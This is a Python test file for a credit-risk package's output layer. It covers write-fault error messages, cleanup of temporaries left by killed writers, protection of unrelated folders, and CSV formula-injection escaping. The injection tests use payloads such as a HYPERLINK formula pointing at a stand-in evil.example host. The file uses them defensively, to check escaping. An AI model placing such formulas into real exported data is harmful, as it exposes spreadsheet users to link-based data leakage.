"""Faults in the model store and the outputs (issue 12 items 1, 2, 7, 8–12, 16).

One test per case; each matches the message the user sees. Fault tests use tiny models and
tiny data so that each takes seconds.
"""

from __future__ import annotations

import errno
import json
import os
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from credit_risk.atomic import atomic_path, check_writable, write_csv, write_parquet, write_text
from credit_risk.chunked import write_chunked
from credit_risk.exceptions import CreditRiskError, OutputError


def _compute(start: int, stop: int) -> pd.DataFrame:
    return pd.DataFrame({"row": np.arange(start, stop, dtype=np.int64), "score": np.arange(start, stop) / 10.0})


# --- item 7: disk full, read-only or forbidden output ------------------------------------------


def _failing(code: int):
    def fail(*args, **kwargs):
        raise OSError(code, os.strerror(code))

    return fail


@pytest.mark.parametrize(
    ("code", "says"),
    [
        (errno.ENOSPC, r"No space left on device \(ENOSPC\); free space on that file system"),
        (errno.EROFS, r"Read-only file system \(EROFS\); the file system is read-only; write to a writable folder"),
        (errno.EACCES, r"Permission denied \(EACCES\); you lack permission to write there"),
    ],
)
def test_write_fault_inside_the_writer_is_a_clean_error(tmp_path, monkeypatch, code, says):
    target = tmp_path / "out.txt"
    monkeypatch.setattr(Path, "write_text", _failing(code))
    with pytest.raises(OutputError, match=rf"cannot write {target}: {says}"):
        write_text(target, "x")
    assert not target.exists() and list(tmp_path.iterdir()) == []  # no temporary left behind


def test_read_only_folder_is_a_clean_error(tmp_path, monkeypatch):
    # Running as root ignores chmod, so the read-only file system is simulated at os level.
    target = tmp_path / "ro" / "out.parquet"
    monkeypatch.setattr("tempfile._os.open", _failing(errno.EROFS))
    with pytest.raises(OutputError, match=r"cannot write .*out.parquet: Read-only file system \(EROFS\)"):
        write_parquet(pd.DataFrame({"a": [1]}), target)


def test_disk_full_from_pyarrow_is_a_clean_error(tmp_path, monkeypatch):
    # pyarrow reports ENOSPC as an OSError whose errno is only in the message.
    def full(self, path, **kwargs):
        raise OSError("[Errno 28] Error writing bytes to file. Detail: [errno 28] No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_parquet", full)
    with pytest.raises(OutputError, match=r"cannot write .*scores.parquet: No space left on device \(ENOSPC\)"):
        write_parquet(pd.DataFrame({"a": [1]}), tmp_path / "scores.parquet")
    assert list(tmp_path.iterdir()) == []


def test_output_error_is_a_credit_risk_error_and_an_os_error():
    assert issubclass(OutputError, CreditRiskError) and issubclass(OutputError, OSError)


def test_unusable_output_is_refused_before_any_work(tmp_path, monkeypatch):
    calls = []

    def compute(start, stop):
        calls.append(start)
        return _compute(start, stop)

    monkeypatch.setattr("tempfile._os.open", _failing(errno.ENOSPC))
    with pytest.raises(OutputError, match="No space left on device"):
        write_chunked(100, compute, tmp_path / "scores.parquet", chunk_size=10, fingerprint="x")
    assert calls == []


def test_output_that_is_a_folder_is_refused(tmp_path):
    (tmp_path / "scores.parquet").mkdir()
    with pytest.raises(OutputError, match=r"scores.parquet is an existing folder; give a file path"):
        check_writable(tmp_path / "scores.parquet")


def test_other_os_errors_are_not_disguised(tmp_path):
    with pytest.raises(FileNotFoundError), atomic_path(tmp_path / "x.txt"):
        open(tmp_path / "missing" / "input.txt")  # noqa: SIM115 - a read error inside the block


# --- item 16 (assembly part): a killed writer's hidden temporary is cleaned next time ----------


def test_temporary_of_a_killed_writer_is_removed_by_the_next_write(tmp_path):
    import subprocess
    import sys

    # A process that dies holding a temporary (as kill -9 during assembly would leave it).
    code = (
        "import os, sys\n"
        "from credit_risk.atomic import atomic_path\n"
        f"with atomic_path({str(tmp_path / 'scores.parquet')!r}) as tmp:\n"
        "    tmp.write_bytes(b'half')\n"
        "    os._exit(9)\n"
    )
    subprocess.run([sys.executable, "-c", code], check=False)
    left = [p.name for p in tmp_path.iterdir()]
    assert len(left) == 1 and left[0].startswith(".scores.parquet.") and left[0].endswith(".tmp")
    write_chunked(10, _compute, tmp_path / "scores.parquet", chunk_size=5, fingerprint="x")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["scores.parquet"]


def test_temporary_of_a_live_writer_is_kept(tmp_path):
    live = tmp_path / f".scores.parquet.{os.getppid()}.abcd.tmp"
    live.write_bytes(b"in progress")
    write_text(tmp_path / "scores.parquet", "x")
    assert live.exists()


# --- item 11: score --out X never deletes an unrelated X.parts/ ---------------------------------


def test_unrelated_parts_folder_is_left_untouched(tmp_path):
    parts = tmp_path / "scores.parquet.parts"
    parts.mkdir()
    (parts / "thesis.docx").write_bytes(b"years of work")
    with pytest.raises(OutputError, match=r"scores.parquet.parts exists but was not written by credit_risk .*thesis.docx.*left untouched"):
        write_chunked(10, _compute, tmp_path / "scores.parquet", chunk_size=5, fingerprint="x")
    assert (parts / "thesis.docx").read_bytes() == b"years of work"


def test_parts_folder_with_a_foreign_manifest_is_left_untouched(tmp_path):
    parts = tmp_path / "scores.parquet.parts"
    parts.mkdir()
    (parts / "manifest.json").write_text('{"project": "someone else"}')
    with pytest.raises(OutputError, match="no credit_risk.chunked/1 manifest"):
        write_chunked(10, _compute, tmp_path / "scores.parquet", chunk_size=5, fingerprint="x")
    assert (parts / "manifest.json").exists()


def test_our_parts_folder_with_a_stranger_inside_is_not_deleted(tmp_path):
    out = tmp_path / "scores.parquet"

    def crashing(start, stop):
        if start >= 5:
            raise RuntimeError("boom")
        return _compute(start, stop)

    with pytest.raises(RuntimeError):
        write_chunked(10, crashing, out, chunk_size=5, fingerprint="x")
    (tmp_path / "scores.parquet.parts" / "notes.txt").write_text("mine")
    with pytest.raises(OutputError, match="notes.txt"):
        write_chunked(10, _compute, out, chunk_size=5, fingerprint="x")
    assert (tmp_path / "scores.parquet.parts" / "notes.txt").exists()


def test_empty_parts_folder_of_a_killed_run_is_reused(tmp_path):
    (tmp_path / "scores.parquet.parts").mkdir()
    write_chunked(10, _compute, tmp_path / "scores.parquet", chunk_size=5, fingerprint="x")
    assert not (tmp_path / "scores.parquet.parts").exists()


def test_parts_of_the_previous_manifest_format_are_still_ours(tmp_path):
    parts = tmp_path / "scores.parquet.parts"
    parts.mkdir()
    (parts / "manifest.json").write_text(json.dumps({"fingerprint": "old", "chunk_size": 5, "n_rows": 10}))
    write_parquet(_compute(0, 5).assign(score=-1.0), parts / "part-000000.parquet")
    write_chunked(10, _compute, tmp_path / "scores.parquet", chunk_size=5, fingerprint="x")
    assert (pd.read_parquet(tmp_path / "scores.parquet")["score"] >= 0).all()
    assert not parts.exists()


# --- item 12: formula injection in published CSV -------------------------------------------------


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?x","click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_are_escaped_in_csv(tmp_path, cell):
    write_csv(pd.DataFrame({"name": [cell, "Acme Foods"], "value": [-1.5, 2.0]}), tmp_path / "x.csv")
    back = pd.read_csv(tmp_path / "x.csv", dtype={"name": str}, keep_default_na=False)
    assert back["name"].tolist() == ["'" + cell, "Acme Foods"]
    assert back["value"].tolist() == [-1.5, 2.0]  # numbers stay numbers


def test_disclosure_escapes_a_hostile_name(tmp_path):
    import dataclasses

    from credit_risk.scheduler import load_policy, plan_inspections, write_plan

    policy = load_policy()
    policy = dataclasses.replace(
        policy, disclosure=dataclasses.replace(policy.disclosure, columns=(*policy.disclosure.columns, "name"))
    )
    hostile = '=HYPERLINK("http://evil.example/?x","click")'
    subjects = pd.DataFrame({"credit_code": ["S1", "S2"], "tier": "D", "region": "330102",
                             "name": [hostile, "Acme"]})
    inspectors = pd.DataFrame({"inspector_id": ["I1", "I2"], "department": "market_regulation",
                               "home_region": "330102", "capacity": 5})
    plan = plan_inspections(subjects, inspectors, policy, period_start="2026-01-01", period_end="2026-07-01", seed=1)
    write_plan(plan, tmp_path)
    text = (tmp_path / "disclosure.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert not any(line.startswith(("=", '"=')) or ",=" in line or ',"=' in line for line in text.splitlines())
